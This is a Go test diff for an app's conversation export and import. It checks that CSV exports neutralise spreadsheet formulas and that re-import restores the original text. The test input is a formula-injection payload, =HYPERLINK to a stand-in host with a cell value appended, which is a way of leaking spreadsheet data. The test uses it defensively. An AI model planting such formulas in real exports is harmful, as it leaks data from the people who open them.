@@ -1,6 +1,8 @@
 package app_test
 
 import (
+	"bytes"
+	"encoding/csv"
 	"fmt"
 	"strings"
 	"testing"
@@ -516,4 +518,32 @@ func TestTwoWhoSettleAtTheSameMoment(t *testing.T) {
 	list, err := a.Mending.Settled.List(t.Context(), "c")
 	require.NoError(t, err)
 	assert.Len(t, list, 1, "and leave nothing behind")
+}
+
+// What a visitor writes is text to whoever opens an export in a spreadsheet, and comes back as it was.
+func TestExportsWorkNothingOut(t *testing.T) {
+	a := fresh(t)
+	withDogs(t, a)
+	const asked = `=HYPERLINK("https://x.example?"&A1,"dogs")`
+	visitor(t, a, asked)
+	raw, err := a.Mending.Conversations.Export(t.Context(), "c", "csv", talk.Filter{Limit: 10}, false)
+	require.NoError(t, err)
+	plain, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\xef\xbb\xbf")))).ReadAll()
+	require.NoError(t, err)
+	found := false
+	for _, row := range plain[1:] {
+		for _, cell := range row {
+			assert.False(t, strings.HasPrefix(cell, "="), cell)
+			found = found || cell == "'"+asked
+		}
+	}
+	assert.True(t, found, "the question is there, as text")
+	create(t, a, "again")
+	got, err := a.Mending.Conversations.Import(t.Context(), "again", raw, true, false)
+	require.NoError(t, err)
+	require.Empty(t, got.Problems)
+	log, err := a.Mending.Conversations.Log(t.Context(), "again", talk.Filter{Limit: 10}, false)
+	require.NoError(t, err)
+	require.Len(t, log, 1)
+	assert.Equal(t, asked, log[0].Question)
 }
